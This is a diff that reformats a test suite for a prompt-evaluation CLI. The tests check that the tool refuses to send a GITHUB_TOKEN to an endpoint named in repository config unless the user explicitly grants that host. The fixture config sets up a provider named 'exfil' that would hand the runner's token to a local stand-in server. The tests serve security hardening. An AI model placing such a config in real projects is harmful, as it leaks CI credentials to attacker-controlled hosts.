@@ -18,7 +18,18 @@ void describe('promptlab eval: keys named by the repository config', () => {
     work = tempDir('keys');
     config = path.join(work, 'promptlab.config.yaml');
     // What a pull request could commit: the runner's GITHUB_TOKEN as the bearer token of "its" endpoint.
-    fs.writeFileSync(config, ['providers:', '  exfil:', `    baseURL: ${standin.url}`, '    apiKeyEnv: GITHUB_TOKEN', 'models:', '  "openai/*": exfil', ''].join('\n'));
+    fs.writeFileSync(
+      config,
+      [
+        'providers:',
+        '  exfil:',
+        `    baseURL: ${standin.url}`,
+        '    apiKeyEnv: GITHUB_TOKEN',
+        'models:',
+        '  "openai/*": exfil',
+        '',
+      ].join('\n'),
+    );
   });
   after(async () => {
     await standin.close();
@@ -27,9 +38,15 @@ void describe('promptlab eval: keys named by the repository config', () => {
 
   void it('sends nothing and says which variable would have gone to which host, and where the config says so', async () => {
     standin.resetStats();
-    const result = await runCli(['eval', sample, '--no-cache'], { cwd: work, env: childEnv({ GITHUB_TOKEN: 'ghp_not_for_you' }) });
+    const result = await runCli(['eval', sample, '--no-cache'], {
+      cwd: work,
+      env: childEnv({ GITHUB_TOKEN: 'ghp_not_for_you' }),
+    });
     assert.equal(result.code, 2, result.stderr);
-    assert.match(result.stderr, /promptlab\.config\.yaml:4:16: error: provider "exfil" would send GITHUB_TOKEN to http:\/\/127\.0\.0\.1:\d+; refused/);
+    assert.match(
+      result.stderr,
+      /promptlab\.config\.yaml:4:16: error: provider "exfil" would send GITHUB_TOKEN to http:\/\/127\.0\.0\.1:\d+; refused/,
+    );
     assert.match(result.stderr, /--allow-key GITHUB_TOKEN=127\.0\.0\.1:\d+/);
     assert.doesNotMatch(result.stderr, /ghp_not_for_you/);
     assert.doesNotMatch(result.stderr, STACK_LINE);
@@ -44,7 +61,10 @@ void describe('promptlab eval: keys named by the repository config', () => {
       [[], { PROMPTLAB_ALLOW_KEYS: `OTHER=example.com,GITHUB_TOKEN=${host}` }],
     ] as const) {
       standin.resetStats();
-      const result = await runCli(['eval', sample, '--no-cache', '--json', ...args], { cwd: work, env: childEnv({ GITHUB_TOKEN: 'ghp_allowed', ...extra }) });
+      const result = await runCli(['eval', sample, '--no-cache', '--json', ...args], {
+        cwd: work,
+        env: childEnv({ GITHUB_TOKEN: 'ghp_allowed', ...extra }),
+      });
       assert.equal(result.code, 0, result.stderr);
       assert.ok(standin.stats.chatRequests > 0);
       assert.ok(standin.requests.every((r) => r.keyDigest === keyDigest('ghp_allowed')));
@@ -53,7 +73,10 @@ void describe('promptlab eval: keys named by the repository config', () => {
 
   void it('does not let a grant for another host through', async () => {
     standin.resetStats();
-    const result = await runCli(['eval', sample, '--allow-key', 'GITHUB_TOKEN=models.example.com'], { cwd: work, env: childEnv({ GITHUB_TOKEN: 'ghp_x' }) });
+    const result = await runCli(['eval', sample, '--allow-key', 'GITHUB_TOKEN=models.example.com'], {
+      cwd: work,
+      env: childEnv({ GITHUB_TOKEN: 'ghp_x' }),
+    });
     assert.equal(result.code, 2);
     assert.match(result.stderr, /GITHUB_TOKEN is allowed only for models\.example\.com/);
     assert.equal(standin.stats.requests, 0);
@@ -61,10 +84,16 @@ void describe('promptlab eval: keys named by the repository config', () => {
 
   void it('rejects a malformed grant by where it came from, sending nothing', async () => {
     standin.resetStats();
-    const flag = await runCli(['eval', sample, '--allow-key', 'GITHUB_TOKEN'], { cwd: work, env: childEnv({ GITHUB_TOKEN: 'ghp_x' }) });
+    const flag = await runCli(['eval', sample, '--allow-key', 'GITHUB_TOKEN'], {
+      cwd: work,
+      env: childEnv({ GITHUB_TOKEN: 'ghp_x' }),
+    });
     assert.equal(flag.code, 2);
     assert.match(flag.stderr, /--allow-key: expected VARIABLE=host .*got "GITHUB_TOKEN"/);
-    const env = await runCli(['eval', sample], { cwd: work, env: childEnv({ GITHUB_TOKEN: 'ghp_x', PROMPTLAB_ALLOW_KEYS: 'GITHUB_TOKEN=ftp://x' }) });
+    const env = await runCli(['eval', sample], {
+      cwd: work,
+      env: childEnv({ GITHUB_TOKEN: 'ghp_x', PROMPTLAB_ALLOW_KEYS: 'GITHUB_TOKEN=ftp://x' }),
+    });
     assert.equal(env.code, 2);
     assert.match(env.stderr, /PROMPTLAB_ALLOW_KEYS: expected VARIABLE=host/);
     assert.equal(standin.stats.requests, 0);
